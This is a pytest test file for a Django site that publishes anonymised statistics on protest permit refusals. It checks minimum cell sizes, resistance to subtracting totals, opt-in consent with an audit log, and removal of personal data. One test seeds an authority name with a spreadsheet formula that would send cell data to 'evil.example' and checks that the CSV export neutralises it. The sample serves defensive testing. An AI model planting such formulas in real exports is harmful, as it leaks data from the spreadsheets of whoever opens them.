"""The public statistics (issue 16, item 4): /public/refusals/ and its open data count the refusals
of the groups that opted in, show no cell of fewer than 3 groups or 5 refusals, and give a reader
subtracting totals nothing back."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from auditlog.models import LogEntry
from django.urls import reverse

from organizations.models import Membership, Organization
from permits.models import Jurisdiction, RefusalGround
from reports.models import PublishedQuote
from reports.public import MIN_GROUPS, MIN_REFUSALS, public_statistics
from tests.factories import AuthorityFactory, MembershipFactory, OrganizationFactory, UserFactory, refused_application

pytestmark = pytest.mark.django_db

D = dt.date
PAGE = "/public/refusals/"
JSON = "/public/refusals.json"
CSV = "/public/refusals.csv"


def publishing_group(name):
    return OrganizationFactory(name=name, publish_statistics=True)


def refuse(group, authority, *, year=2022, reasons=("repair_works",), event_type="march", title="Refusal", **kwargs):
    return refused_application(
        organization=group,
        authority=authority,
        event_type=event_type,
        filed_on=D(year, 3, 1),
        decided_on=D(year, 3, 10),
        reasons=reasons,
        title=title,
        **kwargs,
    )


@pytest.fixture
def almaty(db):
    return AuthorityFactory()


@pytest.fixture
def shown_cell(almaty):
    """Five refusals of three groups: Almaty, repair works, 2022, marches — just large enough."""
    groups = [publishing_group(name) for name in ("Group one", "Group two", "Group three")]
    for group in (*groups, groups[0], groups[1]):
        refuse(group, almaty)
    return groups


def cell(statistics, reason="repair_works", year=2022, event_type="march"):
    (found,) = [c for c in statistics.cells if (c.reason_code, c.year, c.event_type_code) == (reason, year, event_type)]
    return found


def is_empty(statistics) -> bool:
    """Nothing at all shown: no cell, no figure, no trend, no total."""
    margins = (statistics.by_reason, statistics.by_authority, statistics.by_year, statistics.by_event_type)
    return not statistics.cells and not any(margins) and not statistics.trends and statistics.refusals_shown == 0


def test_a_cell_of_three_groups_and_five_refusals_is_shown(shown_cell):
    statistics = public_statistics()

    assert (cell(statistics).refusals, cell(statistics).groups) == (MIN_REFUSALS, MIN_GROUPS)
    assert statistics.refusals_shown == 5
    assert statistics.groups_counted == 3


def test_a_cell_of_two_groups_is_left_out_however_many_refusals_it_counts(almaty):
    one, two = publishing_group("One"), publishing_group("Two")
    for group in (one, one, one, two, two, two):
        refuse(group, almaty)

    statistics = public_statistics()

    assert is_empty(statistics)
    assert statistics.groups_publishing == 2


def test_a_cell_of_four_refusals_is_left_out(almaty):
    for name in ("One", "Two", "Three", "Four"):
        refuse(publishing_group(name), almaty)

    assert is_empty(public_statistics())


def test_a_group_that_did_not_opt_in_never_counts(shown_cell, almaty):
    private = OrganizationFactory(name="Private group")
    for _ in range(3):
        refuse(private, almaty)
    refuse(private, almaty, year=2020, reasons=("late_filing",))

    statistics = public_statistics()

    assert cell(statistics).refusals == 5
    assert statistics.groups_publishing == 3
    assert [(c.year, c.refusals, c.groups) for c in statistics.cells] == [(2022, 5, 3)]


def test_revoking_consent_removes_the_group_from_the_next_answer(shown_cell, client):
    assert json.loads(client.get(JSON).content)["refusals_shown"] == 5

    shown_cell[2].set_publish_statistics(False, by=None)

    document = json.loads(client.get(JSON).content)
    assert document["refusals_shown"] == 0
    assert document["groups_publishing"] == 2
    assert document["cells"] == [] and document["by_authority"] == [] and document["trends"] == []


def numbers(document) -> dict:
    """Every number a reader gets, except the cell listing: what an attacker subtracts."""
    figures = {}
    for margin in ("by_reason", "by_authority", "by_year", "by_event_type"):
        for figure in document[margin]:
            figures[(margin, figure["key"])] = (figure["refusals"], figure["groups"])
    for trend in document["trends"]:
        for figure in trend["years"]:
            figures[("trend", trend["reason"], figure["key"])] = (figure["refusals"], figure["groups"])
        figures[("trend", trend["reason"])] = trend["groups"]
    figures["total"] = (document["refusals_shown"], document["groups_counted"])
    shown = {
        (c["year"], c["authority"], c["reason"], c["event_type"]): (c["refusals"], c["groups"])
        for c in document["cells"]
    }
    return {"figures": figures, "shown": shown}


def test_a_reader_subtracting_the_totals_cannot_learn_a_hidden_cell(shown_cell, almaty, client):
    """A fourth group's single refusal beside the shown cell — same authority, year and event type,
    another reason; another in the shown cell's reason but another event type; another in a year of
    its own. Whatever the reader adds or subtracts, the answer is exactly what it was without them:
    the cells left out are in no total, and nothing says that they exist."""
    before = json.loads(client.get(JSON).content)
    lone = publishing_group("Lone group")
    refuse(lone, almaty, reasons=("public_health",))
    refuse(lone, almaty, event_type="picket")
    refuse(lone, almaty, year=2023)

    after = json.loads(client.get(JSON).content)

    assert numbers(after) == numbers(before)
    assert {k: v for k, v in after.items() if k != "groups_publishing"} == {
        k: v for k, v in before.items() if k != "groups_publishing"
    }
    assert (before["groups_publishing"], after["groups_publishing"]) == (3, 4)
    assert "2023" not in client.get(PAGE).content.decode().split('id="summary"', 1)[1]


def test_a_total_over_everything_would_have_given_the_hidden_cell_back(shown_cell, almaty):
    """Why the totals are the shown cells': the refusals by authority over everything (6) minus the
    shown cell (5) would name the lone group's one refusal citing public health."""
    refuse(publishing_group("Lone group"), almaty, reasons=("public_health",))

    statistics = public_statistics()

    (by_authority,) = statistics.by_authority
    assert by_authority.refusals == 5


def test_quotes_appear_only_published_and_only_from_shown_cells(shown_cell, almaty, client):
    grounds = RefusalGround.objects.filter(decision__application__authority=almaty).order_by("pk")
    PublishedQuote.publish(ground=grounds[0], text="Repair works on [name]'s square", by=None)
    lone = refuse(publishing_group("Lone group"), almaty, reasons=("public_health",))
    hidden_ground = RefusalGround.objects.get(decision__application=lone)
    PublishedQuote.publish(ground=hidden_ground, text="Words from a hidden cell", by=None)

    page = client.get(PAGE).content.decode()

    assert "Repair works on [name]&#x27;s square" in page
    assert "Words from a hidden cell" not in page
    assert "Quoted words for repair_works" not in page  # the unpublished originals
    assert "Words from a hidden cell" not in client.get(JSON).content.decode()


def test_anonymous_readers_get_the_page_and_the_open_data_without_personal_data(shown_cell, almaty, client):
    refuse(shown_cell[0], almaty, title="Picket of Aruzhan Sultanova", applicants=["Aruzhan Sultanova"])

    page = client.get(PAGE)
    document = client.get(JSON)
    table = client.get(CSV)

    assert page.status_code == document.status_code == table.status_code == 200
    for response in (page, document, table):
        body = response.content.decode()
        assert "Aruzhan" not in body
        for group in shown_cell:
            assert group.name not in body
    assert "Akimat" in page.content.decode()
    assert 'role="img"' in page.content.decode() and "<title" in page.content.decode()
    assert "<script" not in page.content.decode().split("<main", 1)[-1].split("</main>", 1)[0]


def test_the_open_data_carries_its_licence_and_how_to_cite(shown_cell, client):
    document = json.loads(client.get(JSON).content)
    rows = list(csv.reader(io.StringIO(client.get(CSV).content.decode("utf-8-sig"))))

    assert document["licence"]["name"] == "CC BY 4.0"
    assert "/public/refusals/" in document["how_to_cite"]
    assert rows[0][0].startswith("# Licence: CC BY 4.0")
    assert rows[1][0].startswith("# How to cite")
    header = rows[3]
    data = [dict(zip(header, row, strict=True)) for row in rows[4:]]
    assert data == [
        {
            "year": "2022",
            "authority": "Akimat of Almaty city",
            "reason": "repair_works",
            "reason_label": data[0]["reason_label"],
            "event_type": "march",
            "event_type_label": "March",
            "refusals": "5",
            "groups": "3",
        }
    ]


def test_an_authority_named_like_a_formula_is_defused_in_the_csv(shown_cell, client):
    jurisdiction = Jurisdiction.objects.get(code="KZ-ALA")
    evil = AuthorityFactory(name='=HYPERLINK("http://evil.example/?"&A1)', jurisdiction=jurisdiction)
    for group in (*shown_cell, shown_cell[0], shown_cell[1]):
        refuse(group, evil)

    body = client.get(CSV).content.decode("utf-8-sig")

    assert "'=HYPERLINK" in body
    assert ',"=HYPERLINK' not in body


def test_the_open_data_is_public_but_revalidated_and_answers_304_when_unchanged(shown_cell, client):
    first = client.get(JSON)

    assert "public" in first["Cache-Control"] and "no-cache" in first["Cache-Control"]
    assert "no-store" not in first["Cache-Control"]
    assert first["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    again = client.get(JSON, HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304
    shown_cell[0].set_publish_statistics(False, by=None)
    assert client.get(JSON, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 200


def test_the_page_is_not_stored_by_caches_since_a_member_sees_their_menu_on_it(shown_cell, client):
    assert "no-store" in client.get(PAGE)["Cache-Control"]


def test_the_trend_chart_draws_a_bar_per_year_and_says_how_many_groups_it_is_drawn_from(shown_cell, almaty, client):
    for group in (*shown_cell, shown_cell[0], shown_cell[2]):
        refuse(group, almaty, year=2024)
    refuse(shown_cell[0], almaty, year=2023)

    page = client.get(PAGE).content.decode()

    chart = page.split('id="trend-repair_works"', 1)[1].split("</figure>", 1)[0]
    assert chart.count("<rect") == 2  # 2022 and 2024: 2023's one refusal is left out
    assert "drawn from 3 groups" in chart
    assert "2023" not in chart


# --- Consent: a coordinator's, off by default, audited ----------------------------------------


@pytest.fixture
def coordinator_and_group(db):
    group = OrganizationFactory(name="Feminita")
    coordinator = UserFactory(username="aizhan", verified_email=True)
    MembershipFactory(user=coordinator, organization=group, role=Membership.Role.COORDINATOR)
    return coordinator, group


def test_a_group_is_not_published_until_its_coordinator_opts_in(coordinator_and_group, login):
    coordinator, group = coordinator_and_group
    assert not group.publish_statistics

    page = login(coordinator).get(reverse("reports:sharing", args=[group.pk]))

    assert "Publish our refusals in the public statistics" in page.content.decode()
    assert "fewer than 5 refusals or fewer than 3 groups is never shown" in page.content.decode()


def test_the_coordinator_opts_in_and_out_and_the_audit_trail_records_both(coordinator_and_group, login):
    coordinator, group = coordinator_and_group
    client = login(coordinator)
    url = reverse("reports:public_consent", args=[group.pk])

    response = client.post(url, {"publish_statistics": "on"})

    assert response.status_code == 302
    group.refresh_from_db()
    assert group.publish_statistics
    client.post(url, {})
    group.refresh_from_db()
    assert not group.publish_statistics
    entries = [
        e
        for e in LogEntry.objects.get_for_object(group).filter(action=LogEntry.Action.UPDATE)
        if "publish_statistics" in (e.changes_dict or {})
    ]
    assert [e.changes_dict["publish_statistics"] for e in entries] == [["True", "False"], ["False", "True"]]
    assert {e.actor for e in entries} == {coordinator}
    assert {entry.actor for entry in entries} == {coordinator}


def test_a_member_who_is_not_a_coordinator_cannot_opt_the_group_in(coordinator_and_group, login):
    _coordinator, group = coordinator_and_group
    member = UserFactory(username="member", verified_email=True)
    MembershipFactory(user=member, organization=group, role=Membership.Role.MEMBER)

    response = login(member).post(reverse("reports:public_consent", args=[group.pk]), {"publish_statistics": "on"})

    assert response.status_code in (403, 404)
    assert not Organization.objects.get(pk=group.pk).publish_statistics


def test_the_group_page_tells_its_coordinator_whether_and_what_the_group_publishes(coordinator_and_group, login):
    coordinator, group = coordinator_and_group
    client = login(coordinator)

    before = client.get(reverse("organizations:detail", args=[group.pk])).content.decode()
    group.set_publish_statistics(True, by=coordinator)
    after = client.get(reverse("organizations:detail", args=[group.pk])).content.decode()

    assert "Your group's refusals are not in the public statistics." in before
    assert "Your group's refusals count in the public statistics." in after
    assert "fewer than 5 refusals or 3 groups is never shown" in after


def test_the_chart_keeps_its_coordinates_readable_in_russian_and_kazakh(shown_cell, almaty, client):
    for group in (*shown_cell, shown_cell[0], shown_cell[1]):  # three bars: one lands on a fraction
        refuse(group, almaty, year=2021)
    for group in (*shown_cell, shown_cell[0], shown_cell[1]):
        refuse(group, almaty, year=2023)

    for language in ("ru", "kk"):
        page = client.get(PAGE, HTTP_ACCEPT_LANGUAGE=language).content.decode()
        svg = page.split('<svg class="trend-chart"', 1)[1].split("</svg>", 1)[0]
        coordinates = re.findall(r' (?:x|y|x1|y1|x2|y2|width|height)="([^"]*)"', svg)
        assert len(coordinates) > 10
        assert all(re.fullmatch(r"\d+(\.\d+)?", value) for value in coordinates), (language, coordinates)


def test_an_authority_a_group_added_for_itself_is_never_named_but_its_refusals_count(db, client):
    """Its name is the group's own words (and would point at the group): the refusals pool under one
    unnamed authority, which three groups' private authorities fill past the threshold together."""
    groups = [publishing_group(name) for name in ("One", "Two", "Three")]
    jurisdiction = Jurisdiction.objects.get(code="KZ-ALA")
    private = {
        group: AuthorityFactory(name=f"Police of the district where {group.name} meets", organization=group,
                                jurisdiction=jurisdiction)
        for group in groups
    }  # fmt: skip
    for group in (*groups, groups[0], groups[1]):
        refuse(group, private[group])

    document = json.loads(client.get(JSON).content)
    page = client.get(PAGE).content.decode()

    (only,) = document["cells"]
    unlisted = "An authority not yet in Ruqsat's shared list"
    assert (only["authority"], only["refusals"], only["groups"]) == (unlisted, 5, 3)
    for body in (page, json.dumps(document, ensure_ascii=False), client.get(CSV).content.decode()):
        assert "Police of the district" not in body


def test_a_head_request_is_answered_like_a_get_without_the_body(shown_cell, client):
    response = client.head(JSON)

    assert response.status_code == 200
    assert response["ETag"] == client.get(JSON)["ETag"]
    assert client.post(JSON).status_code == 405
